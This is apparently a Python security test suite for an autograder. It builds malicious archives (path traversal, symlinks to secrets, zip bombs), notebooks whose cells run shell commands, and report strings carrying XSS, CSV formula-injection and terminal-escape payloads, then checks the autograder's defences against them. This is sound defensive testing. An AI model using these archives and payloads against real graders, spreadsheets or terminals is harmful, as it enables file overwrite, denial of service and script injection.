"""Attacks by what is handed in and by how it is called: archives, notebooks, reports.

Each is tried on our reader, and on the usual way to do it, in a few lines, beside it.
"""

import csv
import io
import json
import re
import stat
import struct
import subprocess
import sys
import tarfile
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from html.parser import HTMLParser
from pathlib import Path

from rich.console import Console

from autograder.collect import collect, read_source
from autograder.grading.table import grades_csv
from autograder.lms.export import FORMATS
from autograder.lms.export.feedback import as_html, feedback_of
from autograder.model.record import Detail, Kind, Place, Record, Text, Verdict
from autograder.model.submission import File, Problem, Student, Submission
from autograder.model.topic import Assignment, Exercise
from autograder.presentation.messages import Translator
from autograder.presentation.report.pages import feedback_page
from autograder.presentation.sentences import explain
from autograder.presentation.terminal.explanation import explanation_lines
from autograder.presentation.terminal.grading import results_table

ASSIGNMENT = Assignment(
    title=Text("Toy", "Toy"),
    file="toy.py",
    exercises=(Exercise(name="e", title=Text("e", "e"), points=1, defines=("double",)),),
)
HONEST = b"def double(x):\n    return 2 * x\n"
MOST_BYTES, MOST_FILES, SECONDS = 64 << 20, 5000, 5


@dataclass(frozen=True)
class FileAttack:
    """An attack, the usual way to meet it and ours: each says in what it succeeded."""

    name: str
    group: str
    usual: Callable[[Path], list[str]]
    ours: Callable[[Path], list[str]]

    def naively(self, folder: Path) -> list[str]:
        """In what it succeeds where it is met as usual."""
        return self.usual(folder)

    def successes(self, folder: Path) -> list[str]:
        """In what it succeeds here."""
        return self.ours(folder)


# --- archives ------------------------------------------------------------------------------------


def zipped(*entries: tuple[str | zipfile.ZipInfo, bytes], method: int = 8) -> bytes:
    """A zip of these entries."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return stream.getvalue()


def special(name: str, mode: int) -> zipfile.ZipInfo:
    """An entry of Unix with a mode of its own."""
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, mode << 16
    return info


def tarred(*members: tuple[str, bytes, bytes]) -> bytes:
    """A tar of members: name, type, and content (or where a link leads)."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, kind, content in members:
            info = tarfile.TarInfo(name)
            info.type = kind
            if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
                info.linkname = content.decode()
                archive.addfile(info)
            else:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def _nested(depth: int) -> bytes:
    data = zipped(("zeros.py", bytes(1 << 20)))
    for _ in range(depth):
        data = zipped(*((f"{number}.zip", data) for number in range(4)))
    return data


def _overlapping() -> bytes:
    """Thirty entries that all share the bytes of one (David Fifield's bomb, in small)."""
    data = zipped(("a.py", bytes(4 << 20)))
    start = data.index(b"PK\x01\x02")
    central, end = data[start : data.index(b"PK\x05\x06")], data[data.index(b"PK\x05\x06") :]
    entries = b"".join(central.replace(b"a.py", b"%c.py" % (97 + i)) for i in range(26))
    end = end[:8] + struct.pack("<HHII", 26, 26, len(entries), start) + end[20:]
    return data[:start] + entries + end


def _lying(claimed: int) -> bytes:
    data = zipped(("toy.py", bytes(80 << 20)))
    size = struct.pack("<I", 80 << 20)
    return data.replace(size, struct.pack("<I", claimed))


def _patched(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data
    return data.replace(old, new)


SECRET_LINK = stat.S_IFLNK | 0o777
ARCHIVES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a path that goes up": ("x.zip", lambda: zipped(("../outside/got.py", HONEST))),
    "a path that goes up and down": ("x.zip", lambda: zipped(("a/../../outside/got", HONEST))),
    "a path that goes up, in Windows' way": (
        "x.zip",
        lambda: _patched(zipped(("../outside/got.py", HONEST)), b"../outside/", b"..\\outside\\"),
    ),
    "an absolute path": ("x.zip", lambda: zipped(("@OUTSIDE@/got.py", HONEST))),
    "a drive": ("x.zip", lambda: zipped(("C:/outside/got.py", HONEST))),
    "a server": (
        "x.zip",
        lambda: _patched(zipped(("//server/share/x.py", HONEST)), b"//server", b"\\\\server"),
    ),
    "a symbolic link to a secret": (
        "x.zip",
        lambda: zipped((special("toy.py", SECRET_LINK), b"@OUTSIDE@/secret")),
    ),
    "a symbolic link, and a file through it": (
        "x.zip",
        lambda: zipped((special("d", SECRET_LINK), b"@OUTSIDE@"), ("d/got.py", HONEST)),
    ),
    "a path that goes up, in a tar": (
        "x.tar",
        lambda: tarred(("../outside/got.py", tarfile.REGTYPE, HONEST)),
    ),
    "a symbolic link, and a file through it, in a tar": (
        "x.tar",
        lambda: tarred(("d", tarfile.SYMTYPE, b"@OUTSIDE@"), ("d/got.py", tarfile.REGTYPE, HONEST)),
    ),
    "a hard link in a tar": (
        "x.tar",
        lambda: tarred(("toy.py", tarfile.LNKTYPE, b"../outside/secret")),
    ),
    "a pipe in a tar": ("x.tar", lambda: tarred(("toy.py", tarfile.FIFOTYPE, b""))),
    "a bomb": ("x.zip", lambda: zipped(("toy.py", bytes(100 << 20)))),
    "a bomb of many files": (
        "x.zip",
        lambda: zipped(*((f"{n}.py", bytes(1 << 20)) for n in range(100))),
    ),
    "bombs in bombs": ("x.zip", lambda: _nested(3)),
    "entries that share their bytes": ("x.zip", _overlapping),
    "ten thousand names": ("x.zip", lambda: zipped(*((f"{n}.py", b"") for n in range(10_000)))),
    "a header that lies": ("x.zip", lambda: _lying(10)),
    "an encrypted entry": (
        "x.zip",
        lambda: re.sub(rb"(?s)(PK\x01\x02....)..", b"\\1\x01\x00", zipped(("toy.py", HONEST))),
    ),
    "a name with an end in it": (
        "x.zip",
        lambda: _patched(
            zipped(("toy.py_.txt", b"print(1)"), ("toy.py", HONEST)), b"toy.py_", b"toy.py\0"
        ),
    ),
    "a name of a thousand letters": ("x.zip", lambda: zipped(("a" * 1000 + "/toy.py", HONEST))),
    "two entries of one name": (
        "x.zip",
        lambda: zipped(("toy.py", HONEST), ("toy.py", b"print(1)")),
    ),
    "a file whose name is a folder's": (
        "x.zip",
        lambda: zipped(("d", HONEST), ("d/toy.py", HONEST)),
    ),
    "no archive at all": ("x.zip", lambda: b"PK\x05\x06" + bytes(4)),
    "a way of packing that takes a minute": (
        "x.zip",
        lambda: zipped(("toy.py", bytes(100 << 20)), method=zipfile.ZIP_LZMA),
    ),
}


def _prepared(folder: Path, data: bytes) -> tuple[bytes, Path]:
    """The archive with its path filled in, and the folder that nothing may reach."""
    outside = folder / "class" / "outside"
    outside.mkdir(parents=True)
    (outside / "secret").write_text("secret")
    named = str(outside).encode()
    if b"@OUTSIDE@" not in data:
        return data, outside
    # Lengths stand in the headers: written anew, with the path in names and in contents.
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            entries: list[tuple[str | zipfile.ZipInfo, bytes]] = []
            for info in archive.infolist():
                new = special(info.filename.replace("@OUTSIDE@", str(outside)), 0)
                new.external_attr = info.external_attr
                entries.append((new, archive.read(info).replace(b"@OUTSIDE@", named)))
        return zipped(*entries), outside
    with tarfile.open(fileobj=io.BytesIO(data)) as archive:
        members = [
            (m.name, m.type, named if m.linkname == "@OUTSIDE@" else HONEST) for m in archive
        ]
    return tarred(*members), outside


def _extract_as_usual(name: str, data: bytes) -> Callable[[Path], list[str]]:
    """Unpacks by name and keeps what `unzip` keeps: links, and whatever the entries say."""

    def run(folder: Path) -> list[str]:
        made, outside = _prepared(folder, data)
        into = folder / "class" / "x"
        into.mkdir()
        before = {path: path.stat().st_mtime for path in outside.iterdir()}
        size = count = 0
        found = []
        try:
            if name.endswith(".tar"):
                with tarfile.open(fileobj=io.BytesIO(made)) as tar:
                    tar.extractall(into, filter="fully_trusted")
            else:
                waiting = [zipfile.ZipFile(io.BytesIO(made))]
                while waiting and size <= MOST_BYTES:
                    for info in (archive := waiting.pop()).infolist():
                        content = archive.read(info)
                        size, count = size + len(content), count + 1
                        if info.filename.endswith(".zip"):
                            waiting.append(zipfile.ZipFile(io.BytesIO(content)))
                        path = into / info.filename.replace("\\", "/")
                        path.parent.mkdir(parents=True, exist_ok=True)
                        if stat.S_ISLNK(info.external_attr >> 16):
                            path.symlink_to(content.decode())
                        elif path.exists():
                            found.append("one file took the place of another")
                        else:
                            path.write_bytes(content)
        except Exception as error:
            found.append(f"the class is lost: {type(error).__name__}")
        for path in into.rglob("*"):
            leads = path.is_symlink() or (path.is_file() and path.stat().st_nlink > 1)
            if leads or not (path.is_file() or path.is_dir()):
                found.append("a link or a pipe is kept, and read later")
        if {path: path.stat().st_mtime for path in outside.iterdir()} != before:
            found.append("something outside was changed")
        if size > MOST_BYTES or count > MOST_FILES:
            found.append(f"{size >> 20} MiB and {count} files")
        if any(part in ("C:", "server") for path in into.rglob("*") for part in path.parts):
            found.append("a path that leads elsewhere on Windows")
        return found

    return run


def _collected(name: str, data: bytes) -> Callable[[Path], list[str]]:
    """Collects a class that holds the archive, and an honest file."""

    def run(folder: Path) -> list[str]:
        made, outside = _prepared(folder, data)
        place = folder / "class" / "handed_in"
        for student, file, content in (("mallory", name, made), ("alice", "toy.py", HONEST)):
            (place / student).mkdir(parents=True)
            (place / student / file).write_bytes(content)
        before = sorted(folder.rglob("*"))
        submissions = {each.id: each for each in collect(place, ASSIGNMENT).submissions}
        mallory, alice = submissions["mallory"], submissions["alice"]
        found = []
        if sorted(folder.rglob("*")) != before or (outside / "secret").read_text() != "secret":
            found.append("something was written")
        if read_source(alice, ASSIGNMENT).problem is not None:
            found.append("the neighbour is lost")
        sizes = [len(file.data) for file in mallory.files]
        if sum(sizes) > MOST_BYTES:
            found.append(f"{sum(sizes) >> 20} MiB")
        for file in mallory.files:
            parts = file.path.split("/")
            if ".." in parts or file.path.startswith("/") or b"secret" in file.data:
                found.append(f"{file.path} is read")
        said = [*mallory.notes, *([mallory.problem] if mallory.problem else [])]
        if not said and not mallory.files:
            found.append("nothing is said")
        source = read_source(mallory, ASSIGNMENT)
        if source.problem is None and source.modules[source.main].encode() != HONEST:
            found.append("something else is graded")
        return found

    return run


# --- notebooks -----------------------------------------------------------------------------------


def notebook(*cells: str, **more: object) -> bytes:
    """A notebook of these code cells."""
    made = [
        {"cell_type": "code", "source": cell, "metadata": {}, "outputs": [], "execution_count": 1}
        for cell in cells
    ]
    return json.dumps(
        {"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more}
    ).encode()


DOUBLE = "def double(x):\n    return 2 * x"
TOUCH = "open('outside/got', 'w').close()"
NOTEBOOKS: dict[str, Callable[[], bytes]] = {
    "a command of the shell": lambda: notebook(f"!touch outside/got\n{DOUBLE}"),
    "a magic of the system": lambda: notebook("%system touch outside/got", DOUBLE),
    "a cell in another language": lambda: notebook("%%bash\ntouch outside/got", DOUBLE),
    "a cell that writes a file": lambda: notebook("%%writefile outside/got\nx = 1", DOUBLE),
    "the kernel's own object": lambda: notebook(
        "get_ipython().system('touch outside/got')", DOUBLE
    ),
    "a cell that writes, in Python": lambda: notebook(TOUCH, DOUBLE),
    "a training that never ends": lambda: notebook("while True: pass", DOUBLE),
    "a cell that waits for a person": lambda: notebook("input('continue?')", DOUBLE),
    "a cell that ends the process": lambda: notebook("import os\nos._exit(0)", DOUBLE),
    "a cell that raises": lambda: notebook("1 / 0", DOUBLE),
    "JSON as deep as a well": lambda: b'{"cells":' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "no cells": lambda: b'{"nbformat": 4}',
    "a format of the future": lambda: notebook(DOUBLE, nbformat="x" * 100, cells=7),
    "an output with a script": lambda: notebook(DOUBLE).replace(
        b'"outputs": []',
        b'"outputs": [{"output_type": "display_data", "metadata": {},'
        b' "data": {"text/html": "<script>BROKEN()</script>"}}]',
    ),
    "a number of five thousand digits": lambda: notebook(DOUBLE).replace(
        b'"execution_count": 1', b'"execution_count": ' + b"9" * 5000
    ),
    "text that is not Unicode": lambda: notebook(DOUBLE).replace(b"2 * x", b"2 * x # \xff\xfe"),
    "half a character": lambda: notebook(DOUBLE + "# \ud800"),
    "definitions that hide each other": lambda: notebook(DOUBLE, "double = double(3)"),
}
# The usual way: every cell is run, in order, in one namespace, and shown with its outputs.
RUN_CELLS = """
import json, os, sys
notebook = json.load(open(sys.argv[1]))
space, page = {}, []
for cell in notebook["cells"]:
    if cell["cell_type"] != "code":
        continue
    lines = []
    text = "".join(cell["source"])
    if text.startswith(("%%bash", "%%writefile")):
        text = "!touch outside/got"
    for line in text.split("\\n"):
        if line.startswith(("!", "%system ", "get_ipython().system('")):
            line = "import os; os.system('touch outside/got')"
        lines.append(line)
    exec("\\n".join(lines), space)
    for output in cell["outputs"]:
        page.append(str(output.get("data", {}).get("text/html", "")))
assert space["double"](1) == 2
print("".join(page), "all was run")
"""


def _run_cells(data: bytes) -> Callable[[Path], list[str]]:
    def run(folder: Path) -> list[str]:
        (folder / "outside").mkdir()
        (folder / "x.ipynb").write_bytes(data)
        try:
            done = subprocess.run(
                [sys.executable, "-I", "-c", RUN_CELLS, "x.ipynb"],
                cwd=folder,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                text=True,
                timeout=SECONDS,
                check=False,
            )
        except subprocess.TimeoutExpired:
            return ["it never ends"]
        found = []
        if (folder / "outside/got").exists():
            found.append("something outside was changed")
        if "<script" in done.stdout:
            found.append("a script is shown")
        if "all was run" not in done.stdout:
            found.append("the submission, which has what is asked for, is lost")
        return found

    return run


def _read_notebook(data: bytes) -> Callable[[Path], list[str]]:
    def run(folder: Path) -> list[str]:
        (folder / "outside").mkdir()
        handed_in = Submission(id="x", files=(File(path="toy.ipynb", data=data),), main="toy.ipynb")
        source = read_source(handed_in, ASSIGNMENT)
        found = []
        if list((folder / "outside").iterdir()):
            found.append("something outside was changed")
        if source.problem is not None:
            return found
        text = source.modules[source.main]
        space: dict[str, Callable[[int], int]] = {}
        done = subprocess.run(
            [sys.executable, "-I", "-c", f"{text}\nassert double(1) == 2"],
            cwd=folder,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=10 * SECONDS,
            check=False,
        )
        if done.returncode != 0 or list((folder / "outside").iterdir()):
            found.append(f"more than definitions is run: {text[:200]}{space}")
        return found

    return run


# --- reports -------------------------------------------------------------------------------------

REPORTS: dict[str, str] = {
    "a script": "<script>alert(1)</script>",
    "a script in an attribute": '" onmouseover="alert(1)',
    "an image that runs": "<img src=x onerror=alert(1)>",
    "an end of the page": "</pre></body><iframe src='https://example.org'>",
    "a style": "<style>*{display:none}</style>",
    "a formula": '=HYPERLINK("https://example.org?"&A1,"grade")',
    "a formula with a plus": "+cmd|' /C calc'!A0",
    "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1",
    "a row of its own": 'x\r\nmallory,mallory,toy,graded,10.00,10.00,no,"',
    "a screen that is cleared": "\x1b[2J\x1b[H10/10",
    "a title of the window": "\x1b]0;owned\x07",
    "a link in the terminal": "\x1b]8;;https://example.org\x07grades\x1b]8;;\x07",
    "the clipboard": "\x1b]52;c;cm0gLXJmIC8K\x07",
    "a line that is written over": "0/10\r10/10",
    "an escape of one byte": "\x9b2J",
    "a name read backwards": "\u202e01/01 :erocs\u202c",
    "a line that is no line": "x\u2028y\u0085z",
    "a letter under a thousand marks": "Z" + "\u0300" * 1000,
    "letters that are not seen": "ad\u200bmin\ufeff\U000e0041",
    "half of a letter": "x\ud800y",
    "the language of the terminal's library": "[bold red]10/10[/] [link=https://example.org]x[/]",
}
_TAGS = frozenset(
    ("html", "head", "meta", "title", "body", "h1", "p", "ul", "li", "pre", "br", "!doctype")
)


def record_with(text: str) -> Record:
    """A record of somebody who wrote `text` wherever there is room for it."""
    plain = text.encode("utf-8", "replace").decode()  # what a parser has let in
    place = Place(file=plain, line=1, code=plain, column=0, end_column=3)
    detail = Detail(call=plain, message=plain, output=plain, got=plain, expected=plain)
    verdict = Verdict(
        check="c", exercise="e", title=Text("t", "t"), outcome="failed", points=0, max_points=10,
        kind=Kind.RAISED, fault="student", function=plain, exception=plain, place=place,
        detail=detail, suggestion=plain, forbidden=plain, public=True,
    )  # fmt: skip
    return Record(
        submission=plain, students=(Student(name=plain, id=plain, email=plain),), topic="toy",
        status="graded", score=0.0, max_score=10.0, verdicts=(verdict,), main=plain,
        notes=(Problem(kind="renamed_file", data={"file": plain, "expected": plain}),),
    )  # fmt: skip


PLAIN = "one\n    two"  # what nobody needs to fear


class _Tags(HTMLParser):
    """The tags of a page, and attributes that may run something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.elements: set[tuple[str, ...]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A tag."""
        self.elements.add((tag, *sorted(name for name, _ in attrs)))
        if tag not in _TAGS or any(name.startswith("on") or name == "src" for name, _ in attrs):
            self.found.append(tag)


def _elements(page: str) -> set[tuple[str, ...]]:
    """Every tag of a page with the names of its attributes."""
    parser = _Tags()
    parser.feed(page)
    return parser.elements


@cache
def _usual_elements() -> set[tuple[str, ...]]:
    """What pages of feedback are made of, where nobody means harm."""
    return _elements(feedback_page(record_with(PLAIN), ["en", "es"]).decode())


def _in_page(page: str) -> list[str]:
    strange = _elements(page) - _usual_elements()
    return [f"a page holds <{' '.join(each)}>" for each in sorted(strange)]


def _in_html(page: str) -> list[str]:
    parser = _Tags()
    parser.feed(page)
    return [f"a page holds <{tag}>" for tag in parser.found]


def _in_csv(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    found = ["a table has a row too many"] if len(rows) != 2 else []
    cells = [cell for row in rows[1:] for cell in row]
    return found + ["a cell is a formula" for cell in cells if re.match(r"[=+\-@\t\r]", cell)]


def _in_terminal(text: str) -> list[str]:
    found = []
    for line in text.split("\n"):
        for character in line:
            unseen = unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp", "Cs")
            if unseen and character not in "\u200c\u200d":
                found.append(f"a terminal is sent {character!r}")
        if re.search(r"[\u0300-\u036f]{9}", line):
            found.append("a terminal is sent a heap of marks")
    return found


def _report_as_usual(text: str) -> Callable[[Path], list[str]]:
    def run(folder: Path) -> list[str]:
        try:
            page = f'<p title="{text}">{text}</p>'
            table = io.StringIO()
            table.write(f"student,score\n{text},0\n")
            (folder / "page.html").write_text(page)
            console = Console(file=io.StringIO(), force_terminal=False, width=80)
            console.print(f"{text}: 0/10")
            shown = console.file.getvalue()  # type: ignore[attr-defined]
        except Exception as error:
            return [f"the class is lost: {type(error).__name__}"]
        found = _in_html(page) + _in_csv(table.getvalue()) + _in_terminal(shown.rstrip("\n"))
        if text.strip() and text.startswith("[") and "[bold" not in shown:
            found.append("a terminal is told how to look")
        return found

    return run


def _reported(text: str) -> Callable[[Path], list[str]]:
    def run(folder: Path) -> list[str]:
        record = record_with(text)
        found = _in_csv(grades_csv([record], []))
        for language in ("en", "es"):
            found += _in_html(as_html(feedback_of(record, language)))
            found += _in_page(feedback_page(record, [language]).decode())
            translate = Translator(language)
            lines = explanation_lines(explain(record.verdicts[0], translate), translate, 78)
            found += _in_terminal("\n".join(line.plain for line in lines))
            out = io.StringIO()
            Console(file=out, width=100, force_terminal=False).print(
                results_table([record], translate)
            )
            found += _in_terminal(out.getvalue())
        for name, each in FORMATS.items():
            if not each.needs_template:
                try:
                    export = each.export([record], None)
                except Exception as error:
                    # A refusal that names the reason is one; anything else is ours.
                    if type(error).__name__ != "ExportError":
                        found.append(f"{name} fails: {error!r}")
                    continue
                for path, data in export.files.items():
                    if ".." in path.split("/") or path.startswith("/"):
                        found.append(f"{name} writes to {path}")
                    # What an LMS imports keeps ids as they are; `csv` is what people open.
                    if name == "csv":
                        found += _in_csv(data.decode())
                    if path.endswith((".html", ".htm")):
                        found += [f"{name}: {it}" for it in _in_page(data.decode())]
        return found

    return run


def _all() -> Iterator[FileAttack]:
    for name, (file, make) in ARCHIVES.items():
        yield FileAttack(
            name,
            "archives",
            lambda folder, file=file, make=make: _extract_as_usual(file, make())(folder),
            lambda folder, file=file, make=make: _collected(file, make())(folder),
        )
    for name, cells in NOTEBOOKS.items():
        yield FileAttack(
            name,
            "notebooks",
            lambda folder, make=cells: _run_cells(make())(folder),
            lambda folder, make=cells: _read_notebook(make())(folder),
        )
    for name, text in REPORTS.items():
        yield FileAttack(name, "reports", _report_as_usual(text), _reported(text))


FILE_ATTACKS = list(_all())
